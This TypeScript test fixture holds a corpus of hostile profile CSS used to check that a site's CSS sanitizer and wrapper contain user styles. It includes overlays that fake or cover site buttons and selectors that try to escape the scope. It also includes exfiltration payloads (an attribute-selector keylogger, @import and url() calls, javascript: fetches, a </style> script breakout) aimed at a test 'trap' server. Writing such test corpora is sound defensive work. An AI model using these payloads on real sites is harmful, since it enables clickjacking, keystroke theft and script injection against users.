// A corpus of hostile profile CSS for tests/browser/profile-page.test.ts: each entry is what a user
// could send to user.updateStyle. The sanitizer (src/modules/user/custom-css.ts) scopes it to the
// profile element and drops what it must; what it cannot drop — the overlays, painted by the very
// element the user styles — the page's wrapper (#vrss-profile-frame: contain: paint; isolation:
// isolate; overflow: clip) must contain. The test loads each entry in Chromium and checks that the
// site chrome is neither covered, moved nor restyled, that clicks on its buttons reach them, and
// that no request leaves the app and media origins.
//
// `trap` is the origin of a server of the test's own that must never be hit: every exfiltration
// attempt aims at it (a hit is a leak, whatever the browser did with the answer).
//
// Selectors: the sanitizer rewrites `html`/`body`/`:root` to the scope element, so `body{…}` is how
// an entry styles the profile element itself (the one the wrapper contains); `.vrss-section` etc.
// reach its descendants. The page's geometry the overlays aim at: the sticky header (#vrss-site-header,
// ~50 px, z-index 10) with #vrss-site-action at its right end, the frame 1.5rem below it (max-width
// 1200px, centred), the footer (#vrss-site-footer) 2rem below the frame with #vrss-report at its right.

export interface HostileCss {
  name: string;
  /** The attack class (the list), for the report. */
  kind: string;
  css(o: { trap: string }): string;
}

const overlay = (name: string, kind: string, css: string): HostileCss => ({ name, kind, css: () => css });
const leak = (name: string, css: (trap: string) => string): HostileCss => ({ name, kind: "network", css: ({ trap }) => css(trap) });

export const HOSTILE_CSS: HostileCss[] = [
  // ---- overlays painted by the scope element or its descendants ------------------------------
  overlay("transform: scale(20) of the profile", "transform", `body{transform:scale(20);transform-origin:50% 0;background:#c00}`),
  overlay("transform: translate up over the header", "transform", `body{transform:translate(-200px,-300px);background:#0c0}`),
  overlay("section translated over the header and scaled", "transform", `.vrss-section{transform:translateY(-900px) scale(4);background:#00c;z-index:100}`),
  overlay("3D transform with perspective towards the viewer", "transform", `body{transform:perspective(100px) translateZ(95px);background:#c0c}`),
  overlay("negative margins pull the profile over header and footer", "negative margins",
    `body{margin:-600px -600px -3000px -600px;padding:600px;background:#c60}`),
  overlay("negative margin on a section", "negative margins", `.vrss-section,.vrss-post{margin-top:-2000px;margin-bottom:-2000px;background:#6c0}`),
  overlay("huge spread box-shadow", "box-shadow", `body{box-shadow:0 0 0 10000px #c00,0 -400px 0 400px #c00}`),
  overlay("inset-less offset box-shadow over the footer", "box-shadow", `.vrss-post,.vrss-section{box-shadow:0 3000px 0 3000px #a0a}`),
  overlay("huge outline with offset", "outline", `body{outline:4000px solid #0aa;outline-offset:50px} .vrss-section{outline:3000px solid rgba(0,0,255,.8)}`),
  overlay("border-image fill outset over #vrss-site-action", "border-image fill + translate",
    `body{border:1px solid;border-image:linear-gradient(#1d2b53,#1d2b53) 1 fill/1px/0 0 0 0;border-image-outset:600px 0 0 0;transform:translate(300px,-80px)}`),
  overlay("border-image fake Continue button over #vrss-report", "border-image fill + translate",
    `.vrss-section:first-child{border-style:solid;border-width:2px;border-image-source:linear-gradient(#1d2b53,#1d2b53);border-image-slice:1 fill;border-image-outset:3000px;transform:translateY(400px)}`),
  overlay("grid placement of a section over the sticky header", "grid/flex + z-index",
    `body{display:grid;grid-template-rows:40px 1fr;margin-top:-200px} .vrss-section{grid-row:1;grid-column:1;z-index:2147483647;background:#f0f;height:400px}`),
  overlay("flex order and z-index over the header", "grid/flex + z-index",
    `body{display:flex;flex-direction:column-reverse;margin-top:-300px} .vrss-section{order:-9999;z-index:100;flex-basis:2000px;background:#ff0}`),
  overlay("site keyframes by name (shorthand, longhand, escaped, string, var)", "site keyframes",
    `body{animation:vrss-site-pulse 1s infinite} .vrss-section{animation-name:vrss-site-pulse;animation-duration:1s} .vrss-post{animation-name:vrss\\-site-pulse} h1,h2{animation-name:"vrss-site-pulse"} p{--k:vrss-site-pulse;animation-name:var(--k)} a{animation:\\76 rss-site-pulse 2s}`),
  overlay("own keyframes that move the profile over the header", "keyframes",
    `@keyframes up{from{transform:translateY(0)}to{transform:translateY(-2000px) scale(8)}} body{animation:up 1ms forwards}`),
  overlay("position: fixed / absolute / sticky with offsets", "position",
    `body{position:fixed;inset:0;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:#f00} .vrss-section{position:absolute;top:-100px;left:0} h1{position:sticky;top:0}`),
  overlay("position through custom properties and var()", "position", `body{--p:fixed;position:var(--p);top:var(--t,0)}`),
  overlay("filter drop-shadow offset over header and footer", "filter",
    `body{filter:drop-shadow(0 -500px 0 #c00) drop-shadow(0 2000px 0 #00c)}`),
  overlay("backdrop-filter over the page", "backdrop-filter", `body{backdrop-filter:invert(1) blur(20px);-webkit-backdrop-filter:invert(1)}`),
  overlay("clip-path grown outside the box", "clip-path", `body{clip-path:inset(-2000px);transform:translateY(-200px)} .vrss-section{clip-path:circle(5000px)}`),
  overlay("huge width and height", "huge size", `body{width:100000px;height:30000px;min-width:300vw;background:linear-gradient(#f80,#08f)}`),
  overlay("huge font-size, letter-spacing and text-indent", "font-size tricks",
    `body{font-size:400px;line-height:.1} h1,h2,p,a{font-size:50vw;letter-spacing:-.4em;text-indent:-3000px;white-space:nowrap}`),
  overlay("text-shadow painted far outside", "font-size tricks", `body{text-shadow:0 -600px 0 #c00,0 3000px 0 #00c,0 0 1px #000}`),
  overlay("::before/::after content overlays", "::before/::after",
    `body::before{content:"Continue";position:fixed;top:0;right:0;z-index:2147483647;display:block;width:300px;height:60px;background:#1d2b53} body::after{content:"Report";display:block;margin-top:-5000px;height:5000px;transform:scale(10)}`),
  overlay("scroll-snap and scroll margins", "scroll-snap",
    `html{scroll-snap-type:y mandatory;scroll-behavior:smooth} body{scroll-snap-align:start;scroll-margin-top:-500px;scroll-snap-stop:always}`),
  overlay("will-change and compositing", "will-change", `body{will-change:transform,opacity;transform:translateZ(0) translateY(-150px);backface-visibility:hidden}`),
  overlay("mix-blend-mode over the chrome", "mix-blend-mode",
    `body{mix-blend-mode:difference;background:#fff;transform:translateY(-120px)} .vrss-section{mix-blend-mode:exclusion}`),
  overlay("!important everywhere", "!important",
    `body{transform:scale(12)!important;margin:-900px!important;box-shadow:0 0 0 9000px #000!important;z-index:100!important} *{outline:2000px solid #ff0!important}`),
  overlay("pointer-events, isolation, contain and z-index games", "stacking",
    `body{pointer-events:none;isolation:auto;contain:none;z-index:100;overflow:visible} .vrss-section{pointer-events:auto;z-index:100}`),
  overlay("columns and column-span with huge gaps", "layout",
    `body{columns:3;column-gap:-5000px;column-rule:5000px solid #0f0} .vrss-section{column-span:all;float:left;margin-left:-3000px}`),
  overlay("anchor positioning, popover and top-layer selectors", "top layer",
    `body{anchor-name:--a} .vrss-section{position:absolute;position-anchor:--a;top:anchor(--a top)} body::backdrop{background:red} :modal,:popover-open,:fullscreen{transform:scale(9)} ::view-transition{background:red}`),
  overlay("zoom and content-visibility", "layout", `body{zoom:20;content-visibility:visible} .vrss-section{zoom:10}`),

  // ---- selectors aimed outside the scope (the chrome, the wrapper, the page) -----------------
  overlay("chrome selected directly", "selector escape",
    `#vrss-site-header,#vrss-site-footer,.vrss-chrome,header,footer,#vrss-site-action,#vrss-report{display:none;visibility:hidden;opacity:0;transform:translateY(-100px)}`),
  overlay("the wrapper selected directly", "selector escape",
    `#vrss-profile-frame,main,.vrss-page main{contain:none;overflow:visible;isolation:auto;transform:scale(3);z-index:100}`),
  overlay("root-relative selectors", "selector escape",
    `html body header,:root #vrss-site-header,body>header,html>body>footer,body.vrss-page #vrss-report{display:none} :root{--vrss-chrome:red;background:red}`),
  overlay(":has() and :is()/:where() with complex arguments", "selector escape",
    `:has(#vrss-site-header) header{display:none} body:has(main) footer{display:none} :is(body #vrss-site-header){display:none} :where(.vrss-page) #vrss-site-footer{display:none} :is(html,body)>header{display:none} :not(.x) header{display:none}`),
  overlay("sibling combinators from the scope and the root", "selector escape",
    `body~footer{display:none} body+footer{display:none} main~footer{display:none} html+body{display:none} ~#vrss-site-footer{display:none} +footer{display:none}`),
  overlay("& nesting at the top level and inside rules", "selector escape",
    `& header{display:none} &{transform:scale(9)} .vrss-section{color:red;& ~ footer{display:none} :root &{display:none}}`),
  overlay("@scope, @container, @layer, @supports, @starting-style", "at-rules",
    `@scope (body) to (main){header{display:none}} @scope{:scope{display:none}} @container (min-width:1px){header{display:none}} @layer a{header{display:none}} @supports (display:grid){header{display:none}} @starting-style{header{opacity:0}}`),
  overlay("@property, @page, @counter-style, @position-try, @view-transition", "at-rules",
    `@property --x{syntax:"<length>";inherits:true;initial-value:100px} @page{margin:0} @counter-style x{system:cyclic;symbols:"A"} @position-try --p{top:0} @view-transition{navigation:auto} body{margin-top:calc(-1 * var(--x))}`),

  // ---- classic escapes and exfiltration ------------------------------------------------------
  leak("url() to a foreign origin (background, list-style, border-image, cursor)",
    (t) => `body{background:url(${t}/bg.png)} li{list-style-image:url("${t}/li.png")} .vrss-section{border-image:url(${t}/bi.png) 30} a{cursor:url(${t}/c.cur),auto}`),
  leak("image-set(), filter:url(), mask and content:url()",
    (t) => `body{background-image:image-set("${t}/is.png" 1x,url(${t}/is2.png) 2x)} .vrss-section{filter:url(${t}/f.svg#f);mask:url(${t}/m.svg);mask-image:url(${t}/mi.png)} body::after{content:url(${t}/ct.png)}`),
  leak("@import (url, string, inside @media, after rules)",
    (t) => `@import url(${t}/a.css); @import "${t}/b.css"; @media all{@import url(${t}/c.css);} body{color:red} @import url(${t}/d.css);`),
  leak("@font-face with a remote src", (t) => `@font-face{font-family:Spy;src:url(${t}/f.woff2) format("woff2")} body{font-family:Spy}`),
  leak("attribute-selector keylogger (input[value$=…], a[href^=…])",
    (t) => `input[value$="a"]{background:url(${t}/k?a)} input[value$="b"]{background-image:url(${t}/k?b)} a[href^="/"]{background:url(${t}/h)} a[href*="@"]::after{background:url(${t}/m)} audio[src]{background:url(${t}/au)}`),
  leak("custom property and var() fallback carrying a url", (t) => `body{--x:url(${t}/v.png);background:var(--x)} p{background:var(--nope,url(${t}/fb.png))}`),
  leak("protocol-relative and relative urls", (t) => `body{background:url(${t.replace(/^http:/, "")}/pr.png)} p{background:url(/x.png)} a{background:url(../x.png)}`),
  leak("unicode-escaped url( and @import", (t) => `body{background:\\75 rl(${t}/u1.png)} p{background:u\\72l(${t}/u2.png)} @\\69mport url(${t}/u3.css); a{background:url("\\${t.charCodeAt(0).toString(16)} ${t.slice(1)}/u4.png")}`),
  leak("comment tricks", (t) => `/**/@import/**/url(${t}/c1.css);/**/ body{background:url(/**/${t}/c2.png)} p{background:u/**/rl(${t}/c3.png)} /* </style><img src="${t}/c4.png"> */ a{color:red}/* unterminated`),
  leak("expression(), behavior, -moz-binding, javascript: and vbscript: urls",
    (t) => `body{width:expression(fetch("${t}/e1"));behavior:url(${t}/b.htc);-moz-binding:url(${t}/x.xml#x)} p{background:url(javascript:fetch("${t}/j"))} a{background:url("JaVaScRiPt:fetch('${t}/j2')")} h1{background:url(vbscript:msgbox)} h2{background:url(data:image/svg+xml,%3Csvg%20onload%3Dfetch('${t}/d')%3E)}`),
  leak("</style> breakout with markup",
    (t) => `body{color:red}</style><div id="vrss-pwned">pwned</div><img src="${t}/img.png"><script>window.vrssPwned=1;fetch("${t}/s")</script><style>p{color:blue}`),
  leak("</style> in strings, escapes and comments",
    (t) => `body{font-family:"</style><div id='vrss-pwned'></div><img src='${t}/s1.png'>"} p{font-family:\\3c /style\\3e \\3c img src=${t}/s2.png\\3e} <!-- a{color:red} --> /*</style><div id="vrss-pwned"></div>*/`),
];

/** Every entry at once, as one stylesheet (the corpus must hold together too). */
export const allHostileCss = (o: { trap: string }): string => HOSTILE_CSS.map((h) => h.css(o)).join("\n");
